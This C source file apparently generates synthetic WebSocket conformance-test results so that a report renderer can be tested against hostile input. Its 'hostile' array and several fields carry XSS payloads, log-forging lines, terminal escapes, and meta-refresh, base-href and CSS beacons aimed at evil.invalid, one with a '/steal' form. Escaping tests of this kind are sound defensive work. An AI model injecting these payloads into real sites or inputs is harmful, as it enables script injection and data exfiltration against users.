#include "sample.h"

#include <stdio.h>
#include <string.h>

#include "base/hash.h"
#include "base/rand.h"
#include "report/autobahn_table.h"
#include "ws/close.h"

static const char *const hostile[] = {
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</style><style>body{display:none}</style>",
    "]]><!--",
    "-->{{cases}}${alert(1)}`",
    "line\u2028separator",
    "\u202Egnihtemos esrever",
    "bell\a escape\x1b[31m broken\xff\xc3",
    "javascript:alert(1)",
    "' onmouseover='alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "</pre></div></details></main><h1>All pass</h1>",
    "x\r\n5.000 <! Close 1002\n  | Forged: yes",
    "5.000 <! Close 1002",
    "<meta http-equiv=refresh content=0;url=https://evil.invalid/>",
    "<base href=https://evil.invalid/><form action=/steal><input name=q>",
    "data:text/html,<script>alert(1)</script>",
    "__proto__",
    "<style>*{background:url(https://evil.invalid/)}</style>",
    "<template><slot onfocus=alert(1) autofocus tabindex=1>",
    "\" style=\"position:fixed;inset:0\" x=\"",
};

#define HOSTILE (sizeof hostile / sizeof hostile[0])

static const struct {
    const char *title, *path, *requirement;
} groups[] = {
    { "Reserved bits without a negotiated extension", "rfc6455/5.2-reserved-bits",
      "RFC6455-5.2-2" },
    { "Reserved opcodes", "rfc6455/5.2-opcodes", "RFC6455-5.2-4" },
    { "Payload length in its shortest form", "rfc6455/5.2-length", "RFC6455-5.2-8" },
    { "Masking", "rfc6455/5.1-masking", "RFC6455-5.1-1" },
    { "Fragmentation", "rfc6455/5.4-fragments", "RFC6455-5.4-1" },
    { "Close frames and their codes", "rfc6455/7.4-close-codes", "RFC6455-7.4.1-4" },
    { "Ping and pong", "rfc6455/5.5-ping", "RFC6455-5.5-1" },
    { "UTF-8 in text messages", "rfc6455/8.1-utf8", "RFC6455-5.6-1" },
    { "Opening handshake: the request is checked", "rfc6455/4.2.1-request", "RFC6455-4.2.1-4" },
    { "Opening handshake: the response", "rfc6455/4.2.2-response", "RFC6455-4.2.2-16" },
    { "Compression: negotiation", "rfc7692/7.1-negotiation", "RFC7692-7.1-1" },
    { "Limits and floods", "robustness/limits", "RFC6455-10.4-2" },
};

#define GROUPS (sizeof groups / sizeof groups[0])

/* One case in the making: its clock and the offsets of both streams. */
struct making {
    struct transcript *t;
    struct rand *rand;
    uint64_t us, at_in, at_out;
    bool ok;
};

static void add(struct making *m, struct entry e)
{
    e.us = m->us;
    m->us += 20 + rand_below(m->rand, 180);
    if (e.kind == ENTRY_FRAME_OUT || e.kind == ENTRY_FRAME_IN) {
        uint64_t *at = e.kind == ENTRY_FRAME_IN ? &m->at_in : &m->at_out;
        e.head.payload_len = e.len;
        e.head.len_form = ws_frame_shortest(e.len);
        e.at = *at;
        *at += 2u + (e.len > 125 ? 2u : 0u) + (e.head.masked ? 4u : 0u) + e.len;
    }
    m->ok = m->ok && transcript_add(m->t, &e);
}

static struct entry frame(enum entry_kind kind, uint8_t opcode, struct bytes data, uint64_t len)
{
    bool ours = kind == ENTRY_FRAME_OUT;
    return (struct entry){
        .kind = kind,
        .step = ours ? 1 : ENTRY_NO_STEP,
        .head = { .fin = true,
                  .opcode = opcode,
                  .masked = ours,
                  .key = { 0x37, ours ? 0xfa : 0, ours ? 0x21 : 0, ours ? 0x3d : 0 } },
        .data = data,
        .len = len,
        .hash = hash_bytes(data),
        .diff_at = ENTRY_NO_DIFF,
    };
}

static void close_frame(struct making *m, enum entry_kind kind, uint16_t code, const char *reason)
{
    uint8_t payload[125];
    size_t len = ws_close_encode(code, bytes_str(reason), payload);
    struct entry e = frame(kind, WS_CLOSE, bytes_of(payload, len), len);

    e.by = kind == ENTRY_FRAME_OUT ? BY_RUNNER : BY_CASE;
    add(m, e);
}

static struct entry plain(enum entry_kind kind, const char *text)
{
    return (struct entry){ .kind = kind,
                           .step = kind == ENTRY_EXPECT ? 2 : ENTRY_NO_STEP,
                           .diff_at = ENTRY_NO_DIFF,
                           .text = text };
}

static void handshake(struct making *m, const char *server)
{
    static const char request[] =
        "GET /chat HTTP/1.1\r\nHost: 127.0.0.1:9001\r\nUpgrade: websocket\r\n"
        "Connection: Upgrade\r\nSec-WebSocket-Key: "
        "dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n";
    char response[512];
    struct entry e = plain(ENTRY_HEAD_OUT, NULL);

    add(m, plain(ENTRY_CONNECTED, NULL));
    e.data = BYTES_LIT(request);
    add(m, e);
    int n = snprintf(response, sizeof response,
                     "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: "
                     "Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\nServer: "
                     "%s\r\nSec-WebSocket-Protocol: %s\r\n%s: x\r\n\r\n",
                     server, server, server);
    e = plain(ENTRY_HEAD_IN, NULL);
    e.data = bytes_of(response, (size_t)n);
    add(m, e);
    m->at_out = sizeof request - 1;
    m->at_in = (uint64_t)n;
}

static void closing(struct making *m, const char *reason)
{
    add(m, plain(ENTRY_CLOSING, NULL));
    close_frame(m, ENTRY_FRAME_OUT, 1000, "");
    close_frame(m, ENTRY_FRAME_IN, 1000, reason);
    add(m, plain(ENTRY_END_IN, NULL));
}

static void conversation(struct making *m, size_t i, enum verdict_kind kind)
{
    const char *evil = hostile[i % HOSTILE];
    const char *greeting = i % 3 ? "Hello, world!" : evil;
    struct entry ping = frame(ENTRY_FRAME_OUT, WS_PING, BYTES_LIT("\x8a\x01\x02\xfe"), 4);

    handshake(m, i % 5 ? "sample/1.0" : evil);
    add(m, frame(ENTRY_FRAME_OUT, WS_TEXT, bytes_str(greeting), strlen(greeting)));
    struct entry odd = frame(ENTRY_FRAME_OUT, WS_TEXT, BYTES_LIT("Hello, world!"), 13);
    odd.head.rsv = WS_RSV2;
    add(m, odd);
    ping.by = BY_RUNNER;
    add(m, ping);
    add(m, plain(ENTRY_EXPECT, NULL));
    add(m, frame(ENTRY_FRAME_IN, WS_TEXT, bytes_str(greeting), strlen(greeting)));
    struct entry message = frame(ENTRY_MESSAGE_IN, WS_TEXT, bytes_str(greeting), strlen(greeting));
    message.diff_at = kind == VERDICT_FAIL ? 3 : ENTRY_NO_DIFF;
    add(m, message);
    if (kind == VERDICT_FAIL && i % 2) {
        add(m, frame(ENTRY_FRAME_IN, WS_PONG, BYTES_LIT("\x8a\x01\x02\xfe"), 4));
        add(m, plain(ENTRY_PASSED, NULL));
        add(m, frame(ENTRY_FRAME_IN, WS_BINARY, bytes_str(evil), 70000));
        add(m, plain(ENTRY_OUTPUT, evil));
        struct entry reset = plain(ENTRY_END_IN, evil);
        reset.end = END_RESET;
        add(m, reset);
        add(m, plain(ENTRY_PROCESS, "killed by signal 11"));
        struct entry alive = plain(ENTRY_ALIVE, "connection refused");
        add(m, alive);
    } else {
        closing(m, i % 4 ? "" : evil);
    }
    if (i % 97 == 0)
        for (size_t k = 0; k < 120; k++)
            add(m, frame(ENTRY_FRAME_IN, WS_PONG, BYTES_LIT("flood"), 5));
}

static enum verdict_kind kind_of(size_t i)
{
    return i % 11 == 3   ? VERDICT_FAIL
           : i % 13 == 5 ? VERDICT_WARN
           : i % 29 == 7 ? VERDICT_INFO
           : i % 17 == 9 ? VERDICT_SKIP
           : i % 83 == 8 ? VERDICT_ERROR
                         : VERDICT_PASS;
}

static void judge(struct sample *s, struct result *r, size_t i)
{
    const char *evil = hostile[i % HOSTILE];
    struct verdict *v = &r->verdict;

    v->severity = r->severity;
    v->closing = i % 7 ? CLOSING_CLEAN : CLOSING_UNCLEAN;
    v->reason = "the message with RSV2 set was echoed: the reserved bit was ignored";
    v->expected = "the connection is failed with 1002";
    v->got = arena_print(&s->arena, "text fin len=13 \"Hello\", then %s", evil);
    v->entry = r->transcript.count / 2;
    v->line = 12;
    v->requirement = r->proves[0];
    v->contested = i % 26 == 5;
    v->remarks[v->n_remarks++] = "its Close came 120 ms after the pong";
    if (i % 2)
        v->rule = WS_RULE_RSV2_SET;
    if (v->contested)
        r->contested = "RFC 6455 7.1.7 reads \"SHOULD\", 5.2 reads \"MUST _Fail the Connection_\"";
    if (v->result == VERDICT_FAIL && i % 2)
        r->target_stderr =
            "==7==ERROR: AddressSanitizer: heap-buffer-overflow\n"
            "    #0 0x55d0 in read_frame <server>.c:211\n</pre><script>alert(2)</script>\n";
}

static const char *source_of(struct arena *a, const char *name, const char *title,
                             const char *proves)
{
    return arena_print(
        a,
        "case %s \"%s\" {\n    proves %s\n    needs  echo\n\n    send text \"Hello, "
        "world!\"\n    send text \"Hello, world!\" rsv2\n    send ping\n\n    either {\n"
        "        expect echo\n        expect fail 1002\n    } or warn \"it failed before "
        "the first echo\" {\n        expect fail 1002\n    }\n}\n",
        name, title, proves);
}

static void plain_or_judged(struct sample *s, struct result *r, size_t i)
{
    enum verdict_kind kind = kind_of(i);
    struct rand rand;

    rand_init(&rand, i);
    if (kind == VERDICT_SKIP) {
        r->verdict =
            verdict_skip(i % 2 ? "needs set-up: origin" : "the target takes no compression");
        return;
    }
    if (kind == VERDICT_ERROR) {
        r->verdict = verdict_error("no connection: 127.0.0.1:9001 refused it");
        return;
    }
    struct making m = { .t = &r->transcript, .rand = &rand, .ok = true };
    conversation(&m, i, kind);
    r->duration_us = m.us;
    r->verdict = (struct verdict){
        .result = kind, .behaviour = kind, .closing = CLOSING_CLEAN, .entry = ENTRY_NO_STEP
    };
    if (kind != VERDICT_PASS)
        judge(s, r, i);
}

/* Old numbers from all over the table, none twice. */
static const char *number_of(struct arena *a, size_t i)
{
    struct bytes table = autobahn_table();
    struct autobahn_row row = { 0 };

    for (size_t k = 0; k <= i; k++)
        if (!autobahn_table_next(&table, &row))
            return NULL;
    return arena_str(a, row.id);
}

static void grade(struct arena *a, struct result *r, size_t i)
{
    static const enum dropin_behavior behaviors[VERDICT_KINDS] = {
        [VERDICT_PASS] = DROPIN_OK,
        [VERDICT_INFO] = DROPIN_INFORMATIONAL,
        [VERDICT_WARN] = DROPIN_NON_STRICT,
        [VERDICT_FAIL] = DROPIN_FAILED,
        [VERDICT_SKIP] = DROPIN_UNIMPLEMENTED,
        [VERDICT_ERROR] = DROPIN_FAILED,
    };
    struct dropin *made = arena_new(a, sizeof *made);

    *made = (struct dropin){
        .behavior = behaviors[r->verdict.result],
        .close = i % 6 ? DROPIN_CLOSE_OK : (enum dropin_close)(i / 6 % 6),
        .ending = { .closed_by_me = true,
                    .was_clean = i % 6 != 0,
                    .local_code = 1000,
                    .remote_code = i % 9 ? 1000 : -1 },
        .expected = { .closed_by_me = true,
                      .require_clean = true,
                      .codes = { 1000 },
                      .n_codes = 1 },
    };
    snprintf(made->result, sizeof made->result, "%s",
             i % 3 ? "the echo came" : hostile[i % HOSTILE]);
    r->dropin = made;
}

static void make_result(struct sample *s, struct result *r, size_t i, size_t n)
{
    size_t group = i * GROUPS / n;
    const char *name = arena_print(&s->arena, "case-%zu", i);
    const char **proves = arena_array(&s->arena, 2, sizeof *proves);
    static const char *tags[] = { "slow" };

    proves[0] = groups[group].requirement;
    proves[1] = i % 50 == 0 ? hostile[i / 50 % HOSTILE] : "RFC6455-5.2-3";
    *r = (struct result){
        .id = i % 37 == 11
                  ? arena_print(&s->arena, "%s/%s", groups[group].path, hostile[i % HOSTILE])
                  : arena_print(&s->arena, "%s/%s", groups[group].path, name),
        .title = i % 40 == 3
                     ? hostile[i / 40 % HOSTILE]
                     : arena_print(&s->arena, "A text message with RSV%zu set is refused", i),
        .group = groups[group].title,
        .path = arena_print(&s->arena, "%s.case", groups[group].path),
        .line = (unsigned)(i % 60 + 3),
        .proves = proves,
        .n_proves = 2,
        .autobahn = i % 4 ? number_of(&s->arena, i) : NULL,
        .tags = tags,
        .n_tags = i % 19 == 0,
        .note = i % 23 ? NULL : "Deployed servers differ here.",
        .severity = (enum severity)(3 - i % 4),
        .attempts = i % 21 == 0 ? 2 : 1,
    };
    r->source = source_of(&s->arena, name, r->title, proves[0]);
    r->again =
        arena_print(&s->arena, "wsproof test ws://127.0.0.1:9001/ --cases %s --seed 7", r->id);
    plain_or_judged(s, r, i);
    grade(&s->arena, r, i);
}

const char *sample_hostile(size_t i)
{
    return hostile[i % HOSTILE];
}

bool sample_make(struct sample *s, size_t n, uint64_t seed)
{
    static struct run_options_row probe[] = {
        { "echo", "yes" },
        { "permessage-deflate", "no" },
        { "subprotocols", "\"><img src=x onerror=alert(1)>" },
        { "message limit", "16 MiB" },
    };
    static struct run_options_row options[] = {
        { "jobs", "32" },
        { "timeout", "5s" },
        { "header", "X-Evil: </style><script>alert(1)</script>" },
    };

    *s = (struct sample){ 0 };
    struct result *results = arena_array(&s->arena, n, sizeof *results);
    if (!results)
        return false;
    for (size_t i = 0; i < n; i++)
        make_result(s, &results[i], i, n);
    s->run = (struct run_report){
        .version = "0.1.0",
        .target = "ws://127.0.0.1:9001/<script>alert(1)</script>",
        .role = "server",
        .server_header = "sample/1.0 \"><img src=x onerror=alert(1)>",
        .probe = probe,
        .n_probe = sizeof probe / sizeof probe[0],
        .options = options,
        .n_options = sizeof options / sizeof options[0],
        .seed = seed,
        .started_s = 1770091506,
        .duration_ms = 4321,
        .own_cpu_ms = 1234,
        .own_peak_kib = 48 * 1024,
        .results = results,
        .n_results = n,
    };
    return true;
}

void sample_free(struct sample *s)
{
    for (size_t i = 0; i < s->run.n_results; i++)
        result_free(&s->run.results[i]);
    arena_free(&s->arena);
    *s = (struct sample){ 0 };
}
